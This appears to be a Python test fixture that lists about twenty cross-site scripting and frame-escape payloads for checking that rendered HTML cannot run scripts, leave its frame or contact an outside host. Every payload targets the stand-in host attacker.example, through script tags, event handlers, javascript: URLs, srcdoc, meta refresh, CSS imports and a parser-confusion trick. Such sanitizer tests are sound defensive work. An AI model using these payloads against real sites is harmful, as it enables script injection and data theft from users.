"""Content as an attacker would write it: each tries to run in a browser, to leave its frame, or to call home."""

from __future__ import annotations

HOME = "http://attacker.example"
"""A host that no page may ever ask for."""
_CALL = f"fetch('{HOME}/x');parent.document.title='owned';parent.owned=1;window.owned=1"

PAYLOADS = (
    f"<script>{_CALL}</script>",
    f"</p></main></script><script>{_CALL}</script>",
    f'<img src=x onerror="{_CALL}">',
    f'<img src="{HOME}/pixel.png">',
    f'<svg onload="{_CALL}"></svg>',
    f'<svg><animate onbegin="{_CALL}" attributeName=x dur=1s></svg>',
    f"<svg><script>{_CALL}</script></svg>",
    f'<iframe src="javascript:{_CALL}"></iframe>',
    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    f'<iframe src="{HOME}/frame"></iframe>',
    f'<details open ontoggle="{_CALL}">x</details>',
    f'<video autoplay onloadstart="{_CALL}"><source src="{HOME}/v.mp4"></video>',
    f'<body onload="{_CALL}">',
    f'<input autofocus onfocus="{_CALL}">',
    f'<object data="{HOME}/o.swf"></object><embed src="{HOME}/e">',
    f'<meta http-equiv="refresh" content="0;url={HOME}/away">',
    f'<base href="{HOME}/"><link rel="stylesheet" href="{HOME}/s.css">',
    f"<style>@import '{HOME}/i.css';body{{background:url({HOME}/b.png)}}</style>",
    f'<form action="{HOME}/f"><button autofocus>go</button></form><a href="javascript:{_CALL}" target="_top">link</a>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_CALL}&gt;">',
)
